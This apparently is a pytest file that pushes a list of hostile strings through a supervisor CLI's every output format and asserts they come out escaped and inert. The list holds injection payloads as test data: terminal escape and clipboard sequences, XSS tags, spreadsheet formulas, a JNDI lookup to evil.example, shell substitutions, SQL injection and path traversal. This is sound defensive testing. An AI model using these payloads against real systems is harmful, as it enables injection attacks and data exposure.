"""One set of hostile texts, wherever the input takes a text, pushed through every output that there is."""

import csv
import io
import json
import re
import threading
import unicodedata
import xml.etree.ElementTree as ET
from base64 import b64encode
from hashlib import sha256
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import ClassVar

import pytest
from markdown_it import MarkdownIt
from prometheus_client.parser import text_string_to_metric_families

from flows.orchestration.prefect_events import to_prefect_event
from flows.orchestration.run_page import drift_rows, recommendation_rows
from flows.run.gather import read_inputs
from flows.run.judge import judge
from flows.settings import load_settings
from flows.telling.outbox import MOST_SINGLE
from tests.faults.cases import case
from tests.faults.lab import SEEN, Lab, call

pytestmark = pytest.mark.slow

HOSTILE = [
    "\x1b]52;c;aGk=\x07\x1b]0;title\x07\x1b]8;;http://evil.example\x07\x1b[2J\x9b31m",
    "\r\b\b\boverwritten\x7f",
    "\u202etxt.exe\u2066\u061c\u200f",
    "\u2028\u2029\u0085\u200b\ufeff\U000e0041",
    "a\x00b\ue000",
    "\U0001f4a5",
    "[/][red]x[/red][link=http://evil.example]x[/link]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>'><a href=javascript:alert(1)>x</a>",
    "</title></style></table><!-- ]]> <![CDATA[ &amp; &#x1b;",
    "[x](javascript:alert(1)) ![i](http://evil.example/i) <http://evil.example>",
    "| a | `b` | *c* | _d_ | # e\n# head\n\n- item\n\n    code\n---\n",
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-1-1",
    "@SUM(A1)",
    "\t=1",
    '"} 1\nevil{a="b"} 1\n# HELP evil x\\',
    "${jndi:ldap://evil.example} {{7*7}} {% raw %} %s %(x)s {0} $(id) `id`",
    "@everyone <@1> <!channel> [click](http://evil.example)",
    "'; DROP TABLE x; -- ../../etc/passwd",
    "x" * 900,
]
WELL = {"a/well": {"status": "ok"}, "b/cache": {"status": "ok"}}
"""What is well, so that neither node is suspect as a whole, and each text is in a recommendation of its own."""
FOLD = re.compile(r"<details><summary>\d+ held back</summary>|</details>")
FORMATS = ("table", "json", "ndjson", "markdown", "sarif", "junit")
PAST_FORMATS = ("table", "json", "csv", "markdown")
INVISIBLE = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def find_unsafe(text):
    """Return the characters that a terminal or a reader would not show as they are."""
    return {character for character in set(text) - {"\n"} if unicodedata.category(character) in INVISIBLE}


class Inbox(BaseHTTPRequestHandler):
    """Takes the messages of Apprise's JSON service."""

    taken: ClassVar[list[dict[str, str]]] = []

    def do_POST(self):
        self.taken.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        """Be silent."""


@pytest.fixture(scope="module")
def inbox():
    server = HTTPServer(("127.0.0.1", 0), Inbox)
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield f"json://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def write_hostile(lab):
    """Write each text wherever the inventory, the world and the settings take one."""
    names = [f"s{number}" for number in range(len(HOSTILE))]
    lab.set_desired("services:\n" + "".join(f"  {name}:\n" for name in [*names, "well"]))
    for number, text in enumerate(HOSTILE):
        folder = text.replace("/", "").replace("\0", "")[:200]
        lab.write(f"inventory/hosts/{folder}/services.yaml", "services: [web]")
        lab.write(f"inventory/hosts/c{number}/services.yaml", f"services: [{json.dumps(text)}]")
    statuses = {f"a/{name}": {"status": text} for name, text in zip(names, HOSTILE, strict=True)}
    strays = {
        key: {"status": "ok"} for text in HOSTILE for key in (f"a/{text}", text, f"{text}/web", f" a/x{len(text)}\n")
    }
    lab.set_services(json.dumps(statuses | strays | {"b/cache": {"status": "ok"}, **WELL}))
    about = {"node": "a", "service": "all", "status": "active"}
    incidents = {text: about | {"severity": text, "trigger_type": text, "status": text} for text in HOSTILE}
    lab.write("world/incidents.json", json.dumps(incidents))
    failed = {"node": "b", "service": "cache", "status": "failed", "started_at": SEEN}
    lab.write("world/deployments.json", json.dumps(dict.fromkeys(HOSTILE, failed)))
    places = {"inventory": "../inventory", "world": "../world", "event_log": "../log", "checkpoint": "../checkpoint"}
    settings = {**places, "state_dir": "../state", "limits": {"retry_pause": 0}}
    return lab.write("settings/supervisor.yaml", json.dumps(settings))


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    return Lab(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def config(lab):
    return write_hostile(lab)


@pytest.fixture(scope="module")
def outputs(lab, config):
    """Return how each command ended, by its words."""
    as_of = ["--as-of", lab.as_of.isoformat()]
    targets = [f"a/s{number}" for number in range(len(HOSTILE))]
    commands = [
        ["reconcile", *as_of],
        ["status"],
        ["status", "--json"],
        ["check"],
        ["check", "--json"],
        ["config"],
        ["config", "--json"],
        *(["explain", *as_of, target] for target in (*targets, "a", "b/cache")),
        *(["explain", *as_of, "--json", target] for target in (targets[0], targets[8], "a", "b/cache")),
        *(["explain", "--", text] for text in HOSTILE),
        *(
            ["ack", "add", target, "--until", "3d", "--reason", text, "--owner", text]
            for target, text in zip(targets, HOSTILE, strict=True)
        ),
        ["ack", "list"],
        ["ack", "list", "--json"],
        *(["reconcile", *as_of, "--format", form, "--timings"] for form in FORMATS),
        *(["history", "--since", "2026-04-01T00:00:00Z", "--format", form] for form in PAST_FORMATS),
        ["log", "tail"],
        ["log", "verify"],
        ["metrics"],
        ["report", *as_of, "-o", str(lab.folder / "report.html")],
    ]
    aliases = json.dumps({text: text for text in HOSTILE})
    environment = {"SUPERVISOR_CONFIG": str(config), "NODE_ALIAS_MAP": aliases}
    return {" ".join(words): call(*words, environment=environment) for words in commands}


def find_output(outputs, *words):
    """Return the last output of the command with these words."""
    return [ran.output for name, ran in outputs.items() if set(words) <= set(name.split())][-1]


@case("CLI-004", "CLI-005", "ACT-019", "OWN-007")
def test_no_output_has_a_character_that_is_not_shown(outputs, lab):
    assert {name: ran.exit_code for name, ran in outputs.items() if ran.exit_code not in range(4)} == {}
    assert {name for name, ran in outputs.items() if "Traceback" in ran.errors} == set()
    assert {name: found for name, ran in outputs.items() if (found := find_unsafe(ran.output + ran.errors))} == {}
    assert find_unsafe((lab.folder / "report.html").read_text(encoding="utf-8")) == set()
    assert "\\x1b]52" in find_output(outputs, "reconcile", "table")


@case("CLI-015", "OWN-007")
def test_json_gives_back_what_was_written_and_lines_are_lines(outputs, lab):
    document = json.loads(find_output(outputs, "reconcile", "json"))
    lines = [json.loads(line) for line in find_output(outputs, "reconcile", "ndjson").splitlines()]
    observed = {row["service"]: row["evidence"].get("observed") for row in document["drift"] if row["node"] == "a"}

    assert {observed[f"s{number}"] for number in range(len(HOSTILE))} == {text.strip().lower() for text in HOSTILE}
    assert len([line for line in lines if line["record"] == "drift"]) == len(document["drift"])
    assert all(json.loads(line) for line in lab.log.with_name("log").read_text(encoding="ascii").splitlines())
    assert json.loads(find_output(outputs, "reconcile", "sarif"))["version"] == "2.1.0"
    for name in ("status", "check", "config", "explain"):
        assert json.loads(find_output(outputs, name, "--json"))


@pytest.mark.parametrize("words", [("reconcile", "markdown"), ("history", "markdown")])
@case("PRE-012", "DES-035")
def test_markdown_shows_texts_as_texts(outputs, words):
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(find_output(outputs, *words))
    inline = [child for token in tokens for child in token.children or ()]
    blocks = {token.content.strip() for token in tokens if token.type == "html_block"}

    assert {block for block in blocks if not FOLD.fullmatch(block)} == set()  # ours alone, with a count in it
    assert {token.type for token in [*tokens, *inline]} & {"html_inline", "link_open", "image"} == set()
    assert "th_open" in {token.type for token in tokens}
    assert not {"code_block", "fence"} & {token.type for token in tokens}


@case("OWN-015")
def test_junit_is_xml(outputs):
    suites = ET.fromstring(find_output(outputs, "reconcile", "junit"))

    assert suites.tag == "testsuites"
    assert {element.tag for element in suites.iter()} <= {
        "testsuites",
        "testsuite",
        "testcase",
        "failure",
        "skipped",
        "error",
    }


@case("HIS-016", "SEC-012")
def test_no_cell_of_csv_is_a_formula(outputs):
    rows = list(csv.reader(io.StringIO(find_output(outputs, "history", "csv"))))

    assert len(rows) > len(HOSTILE)
    assert len({len(row) for row in rows}) == 1
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@case("OWN-015")
def test_metrics_have_our_names_alone(outputs):
    families = list(text_string_to_metric_families(find_output(outputs, "metrics")))

    assert {family.name.partition("_")[0] for family in families} == {"supervisor"}
    assert (
        sum(sample.value for family in families if family.name == "supervisor_drift" for sample in family.samples) > 40
    )


class Elements(HTMLParser):
    """Collects what could run or load anything."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.texts = set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes

    def handle_data(self, text):
        self.texts.append(text)


@case("OWN-015")
def test_the_page_runs_one_script_of_ours_and_loads_nothing(outputs, lab):
    page = Elements((lab.folder / "report.html").read_text(encoding="utf-8"))

    policy = next(value for name, value in page.attributes if name == "content" and "script-src" in value)
    script = next(text for text in page.texts if "data-" in text or "document." in text)
    assert f"script-src 'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'" in policy
    assert page.tags & {"img", "iframe", "object", "embed", "form", "base", "a"} == set()
    assert [name for name, _ in page.attributes if name.startswith("on")] == []
    assert [value for name, value in page.attributes if name in {"href", "src"}] == ["data:,"]
    assert any("<script>alert(1)</script>" in text for text in page.texts)


@case("OWN-015")
@pytest.mark.filterwarnings("ignore")
def test_a_message_mentions_and_links_nobody(tmp_path, inbox):
    for start in range(0, len(HOSTILE), MOST_SINGLE):
        lab, texts = Lab(tmp_path / str(start)), HOSTILE[start : start + MOST_SINGLE]
        lab.set_desired("services:\n" + "".join(f"  s{number}:\n" for number in range(len(texts))) + "  well:\n")
        statuses = {f"a/s{number}": {"status": text} for number, text in enumerate(texts)}
        lab.set_services(json.dumps(statuses | WELL))
        call(*lab.arguments(), environment={"SUPERVISOR_NOTIFY_URLS": f"{inbox} {inbox}?format=html"})
    taken = [message["title"] + message["message"] for message in Inbox.taken]

    assert len(taken) == 2 * len(HOSTILE)
    assert {frozenset(find_unsafe(text)) for text in taken} == {frozenset()}
    assert {sign for text in taken for sign in ("@", "<script", "<!", "<img", "](", "`") if sign in text} == set()
    assert len([text for text in taken if "everyone" in text]) == 2


@case("PRE-012", "OWN-015")
def test_what_prefect_is_given_shows_every_character(outputs, lab, config):
    settings = load_settings({}, config).settings
    inputs = read_inputs(settings, lab.as_of)
    judgement = judge(inputs.desired, inputs.actual, settings.rules())
    given = [*recommendation_rows(judgement.recommendations), *drift_rows(judgement.drift)]
    events = [to_prefect_event(json.loads(line)) for line in lab.log.with_name("log").read_bytes().splitlines()]
    shown = [str(value) for row in given for value in row.values()]
    shown += [str(event[name]) for event in events for name in ("event", "resource", "related")]
    shown += [event["payload"]["reason"] for event in events]

    assert len(given) > len(HOSTILE)
    assert len(events) > 10
    assert {found for text in shown for found in find_unsafe(text)} == set()
